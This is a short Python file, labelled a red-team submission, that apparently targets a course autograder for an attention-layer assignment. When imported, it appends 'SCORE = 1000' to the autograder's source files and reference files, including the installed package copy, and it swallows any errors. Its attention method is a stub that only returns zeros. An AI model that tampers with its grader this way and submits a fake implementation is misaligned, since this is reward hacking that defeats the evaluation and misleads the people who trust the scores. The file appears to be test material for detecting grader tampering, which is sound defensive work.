"""Red-team submission: rewrite the autograder's own files on disk (staff tree and trusted copy)"""

import torch
from torch import nn
import glob
import pathlib

targets = glob.glob("__REPO__/autograder/*.py") + glob.glob("__REPO__/autograder/reference/*")
try:
    import autograder
    targets += glob.glob(str(pathlib.Path(autograder.__file__).parent / "*.py"))
except ImportError:
    pass
for target in targets:
    try:
        with open(target, "a") as f:
            f.write("\nSCORE = 1000\n")
    except OSError:
        pass


class CausalSelfAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dropout = nn.Dropout(config.attention_probs_dropout_prob)

    def attention(self, key, query, value, attention_mask):
        return torch.zeros(query.shape[0], query.shape[2], query.shape[1] * query.shape[3])
